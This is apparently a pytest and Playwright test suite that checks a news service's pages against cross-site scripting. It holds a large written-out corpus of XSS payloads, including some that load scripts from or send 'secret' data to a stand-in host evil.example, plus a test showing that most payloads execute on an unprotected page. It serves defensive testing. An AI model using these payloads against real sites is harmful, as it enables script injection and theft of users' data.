"""A corpus of scripts in disguise in every text that comes from elsewhere: titles, outlets, authors, addresses, bodies, what a model wrote.

The fake service hands everything to the page as it is, so that the page alone is tried; the real one takes the same in as articles.
`DATELINE_LONG_TESTS=1` opens every article and link instead of some.
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from fake_service import ARTICLES, SCRIPTS, Running, Watched, cite, sentence

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

from playwright.sync_api import Error, Page, expect
from test_real_service import Real, said, services
from test_real_service import service as real_service

from service.articles.row import article_from_row
from service.services import Services, now

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route

__all__ = ["real_service", "said", "services"]
LONG = bool(os.environ.get("DATELINE_LONG_TESTS"))
OUT = "https://evil.example"
MARKUP = [
    "<script>alert(1)</script>", f"<script src={OUT}/x.js></script>", "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>",
    f"<img src={OUT}/p.png?q=secret>", f"<img srcset='{OUT}/p.png 1x'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", f"<iframe src={OUT}/></iframe>",
    "<object data=javascript:alert(1)></object>", f"<embed src={OUT}/x.svg>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", f"<link rel=stylesheet href={OUT}/x.css>",
    f"<style>@import '{OUT}/x.css';</style>", f"<div style=\"background:url({OUT}/b.png)\">x</div>",
    f"<meta http-equiv=refresh content='0;url={OUT}/'>", f"<base href={OUT}/>",
    f"<form action={OUT}/><button autofocus onfocus=alert(1)>x</button></form>", "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "&lt;img src=x onerror=alert(1)&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "<img src=x onerror=alert(1)//", "<\x0bimg src=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
]  # fmt: skip
WORDS = [
    f"![x]({OUT}/p.png?q=secret)", "[x](javascript:alert(1))", f"[x]: {OUT}/p.png\n![x]", "<javascript:alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "`-alert(1)-`", "';alert(1);//",
    "\";alert(1);//", "\\\";alert(1);//", "*/alert(1)/*", "javascript:alert(1)", "=HYPERLINK(\"https://evil.example\")", "__proto__",
    "constructor", "toString", "\x02<script>", "%3Cscript%3Ealert(1)%3C/script%3E",
]  # fmt: skip
CORPUS = MARKUP + WORDS
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "javascript://evil.example/%0aalert(1)", "javascript:alert(1)//https://a.example",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://evil.example/1", "file:///etc/passwd", "//evil.example/x", "/\\evil.example", "http:\\\\evil.example",
    "https:javascript:alert(1)", "view-source:https://evil.example", "about:blank", "intent://x",
    "https://a.example/\"onmouseover=alert(1)//", "https://a.example/'><img src=x onerror=alert(1)>", "https://user:pass@evil.example/",
]  # fmt: skip
NO_ELEMENT = (
    "img, iframe, object, embed, video, audio, form[action], base, meta[http-equiv=refresh], main script, main style, main link, main math"
)


def harmless(page: Page) -> None:
    """No element of the corpus is there, no address that runs, no attribute that listens."""
    assert page.locator(NO_ELEMENT).count() == 0
    assert page.evaluate("[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length") == 0
    addresses = "[...document.querySelectorAll('[href], [src]')].map(e => new URL(e.href?.baseVal ?? e.href ?? e.src).protocol)"
    schemes = page.evaluate(addresses)
    assert set(schemes) <= {"http:", "https:"}


def shown(text: str) -> str:
    """What can be seen of a text, without its spaces: lines are broken anew in different places."""
    return "".join(char for char in text if char.isprintable() and not char.isspace())


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """An article a payload, and an answer over all of them, in the fake service."""
    ids = []
    for number, text in enumerate(CORPUS):
        url = ADDRESSES[number % len(ADDRESSES)]
        article = {"title": text, "source": text, "author": text, "url": url, "published_at": "2026-03-06"}
        monkeypatch.setitem(ARTICLES, f"xss-{number}", {**article, "text": f"Before. {text} After.\n\n{text}"})
        ids.append(f"xss-{number}")
    citations = [cite(number, name, CORPUS[number - 1]) for number, name in enumerate(ids, start=1)]
    script = {
        "status": "conflicting", "sentences": [sentence(text, number) for number, text in enumerate(CORPUS, start=1)],
        "citations": citations, "nearest": citations, "generator": {"name": CORPUS[0], "kind": "model", "fallback": CORPUS[1]},
        "conflicts": [{"about": text, "positions": [{"value": text, "citations": [1]}]} for text in CORPUS],
    }  # fmt: skip
    monkeypatch.setitem(SCRIPTS, "corpus", script)
    return ids


def test_an_answer_made_of_the_corpus_is_text(
    page: Page, planted: list[str], watched: Watched, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each payload as a sentence, a quote, an outlet, a headline, a subject and a value of one answer that is streamed."""
    page.goto("/?q=corpus")
    expect(page.locator(".sentence")).to_have_count(len(planted))
    texts = [shown(text) for text in page.locator(".sentence .text").all_text_contents()]
    assert [text for text, wanted in zip(texts, CORPUS, strict=True) if shown(wanted) not in text] == []
    harmless(page)
    assert watched == Watched([], [], [])
    with capsys.disabled():
        print(f"\nXSS, an answer: {len(CORPUS)} payloads as sentence, quote, headline and outlet, {len(ADDRESSES)} addresses; 0 ran")


def test_the_archive_made_of_the_corpus_is_text(
    real_service: Real, services: Services, browser: Browser, capsys: pytest.CaptureFixture[str]
) -> None:
    """Through the real service and its policy: each payload as title, outlet, author and body, each address as an article's own."""
    rows: list[dict[str, Any]] = [
        {"id": f"x{number}", "title": text, "source": text, "author": text, "text": f"Report {number}. {text}",
         "published_at": "2026-05-01", "url": ADDRESSES[number % len(ADDRESSES)]}
        for number, text in enumerate(CORPUS)
    ]  # fmt: skip
    report = services.ingest(article_from_row(row, now=now(), max_chars=10_000) for row in rows)
    assert not report.rejected
    watched = Watched([], [], [])
    context = browser.new_context(base_url=real_service.url)
    context.route("**/*", lambda route: note(route, real_service.url, watched))
    page = context.new_page()
    page.on("dialog", lambda dialog: (watched.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: watched.errors.append(str(error)))
    page.on("console", lambda line: watched.errors.append(line.text) if "Content Security Policy" in line.text else None)
    page.goto("/archive")
    expect(page.locator(".rows").first).to_contain_text("alert(1)")
    harmless(page)
    opened = rows if LONG else rows[::3]
    for row in opened:
        page.goto(f"/articles/{row['id']}")
        expect(page.locator("#reader article")).to_contain_text(f"Report {row['id'][1:]}.")
        assert shown(row["text"]) in shown(page.locator("#reader article").text_content() or "")
        harmless(page)
    context.close()
    assert watched == Watched([], [], [])
    with capsys.disabled():
        print(f"\nXSS, articles: {len(rows)} taken in and listed, {len(opened)} opened; 0 ran, 0 foreign requests")


def note(route: Route, ours: str, watched: Watched) -> None:
    """Let through what is ours, note and stop the rest."""
    if route.request.url.startswith(f"{ours}/"):
        route.continue_()
    else:
        watched.foreign.append(route.request.url)
        route.abort()


def test_an_address_of_the_page_is_no_markup(page: Page, service: Running, watched: Watched) -> None:
    """What stands in the question, the filters and the path of a link that somebody sends."""
    service.fake.coverage = {**service.fake.coverage, "examples": []}
    for text in CORPUS if LONG else CORPUS[::12]:
        page.goto(f"/?q={quote(text)}&source={quote(text)}&as_of={quote(text)}&from={quote(text)}#{quote(text)}")
        expect(page.locator(".made-by")).to_be_visible()
        harmless(page)
    for kind in ("articles", "answers", "conversations"):
        page.goto(f"/{kind}/{quote(MARKUP[8], safe='')}")
        expect(page.get_by_role("alert")).to_be_visible()
        harmless(page)
    assert watched == Watched([], [], [])


def test_the_corpus_would_run(browser: Browser, capsys: pytest.CaptureFixture[str]) -> None:
    """It is not dead: parsed as markup on a page without a policy, most of it opens a dialog or asks another host."""
    watched, ran = Watched([], [], []), 0
    context = browser.new_context()
    context.route("**/*", lambda route: note(route, "http://page.example", watched) if "page.example" not in route.request.url
                  else route.fulfill(body="<!doctype html><body></body>", content_type="text/html"))  # fmt: skip
    def fresh() -> Page:
        page = context.new_page()
        page.on("dialog", lambda dialog: (watched.dialogs.append(dialog.message), dialog.dismiss()))
        return page

    page = fresh()
    for text in MARKUP:
        before = (len(watched.dialogs), len(watched.foreign))
        page.goto("http://page.example/")
        try:
            page.evaluate("text => document.body.replaceChildren(document.createRange().createContextualFragment(text))", text)
            page.evaluate("async () => { await fetch('/'); await new Promise(requestAnimationFrame); await fetch('/'); }")
        except Error:  # the page was led away, and may still be on its way
            page.close()
            page = fresh()
        ran += (len(watched.dialogs), len(watched.foreign)) != before
    context.close()
    with capsys.disabled():
        print(f"\nXSS, without the page: {ran} of {len(MARKUP)} payloads run")
    assert ran >= len(MARKUP) // 2
